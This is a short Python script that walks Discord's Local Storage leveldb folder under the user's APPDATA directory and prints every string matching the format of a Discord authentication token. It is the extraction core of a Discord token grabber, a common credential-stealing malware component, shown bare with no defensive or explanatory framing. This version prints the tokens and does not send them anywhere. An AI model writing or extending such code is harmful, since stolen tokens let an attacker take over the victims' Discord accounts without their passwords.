import os, re
roaming = os.getenv("APPDATA")
for f in os.listdir(roaming + "\\discord\\Local Storage\\leveldb"):
    for line in open(roaming + "\\discord\\Local Storage\\leveldb\\" + f, errors="ignore"):
        for t in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
            print(t)
